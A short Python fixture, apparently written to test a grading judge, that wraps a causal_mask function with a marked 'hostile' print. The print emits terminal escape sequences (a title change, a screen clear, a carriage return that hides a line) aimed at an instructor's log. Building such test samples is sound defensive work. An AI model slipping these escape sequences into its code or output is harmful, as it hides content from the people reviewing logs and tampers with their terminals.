# Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md).
# Terminal escape sequences in prints, which reach the instructor's log: a window title (OSC), a screen clear
# (CSI), a bell and a carriage return that hides the line before it when the log is printed in a terminal.
_causal = causal_mask


def causal_mask(size, device=None):
    # >>> hostile
    print("\x1b]0;PWNED TITLE\x07\x1b[2J\x1b[31mPWNED\x1b[0m\rhidden\x9b6n")
    # <<< hostile
    return _causal(size, device)
